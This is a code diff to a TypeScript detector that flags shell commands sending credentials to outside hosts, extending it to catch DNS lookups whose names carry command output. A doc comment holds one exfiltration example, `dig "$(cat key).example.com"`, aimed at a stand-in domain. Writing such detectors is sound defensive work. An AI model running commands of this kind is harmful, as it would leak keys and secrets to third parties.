@@ -40,9 +40,23 @@ export function credentialsSent(
       .map((body) => secrets.in(body, command))
       .find(Boolean);
     if (!what) return [];
-    const hosts = hostsOf(command);
+    const hosts = [...filledNames(command).map(({ domain }) => domain), ...hostsOf(command)];
     const to = hosts.find((host) => !isNear(host));
     return hosts.length === 0 || to !== undefined ? [{ at, by: name, what, to }] : [];
+  });
+}
+
+/** A name that a command looks up with what it holds in front of the domain: `dig "$(cat key).example.com"`. */
+interface FilledName {
+  readonly text: ShellWord;
+  readonly domain: string;
+}
+
+function filledNames(command: Command): FilledName[] {
+  if (!looking.has(command.name ?? '')) return [];
+  return optionsOf(command).operands.flatMap((text) => {
+    const [, domain] = text.commands.length > 0 ? (/[^.]*\.([\w.-]+)$/s.exec(knownText(text)) ?? []) : [];
+    return domain ? [{ text, domain }] : [];
   });
 }
 
@@ -50,6 +64,7 @@ function bodiesOf(command: Command): Body[] {
   const { name = '' } = command;
   if (name === 'curl' || name === 'wget' || name === 'wget2') return uploads(command);
   return [
+    ...filledNames(command),
     ...(isConnector(command) ? [{ file: '-' }] : []),
     ...(command.redirects.some(isConnection) ? (['output'] as const) : []),
   ];
@@ -135,7 +150,7 @@ class Secrets {
   }
 }
 
-const { passing } = credentialPrograms;
+const { passing, looking } = credentialPrograms;
 const environment = say`every variable of the environment`;
 
 /** `env`, `printenv`, `set`, `export -p`, without anything that would make them do something else. */
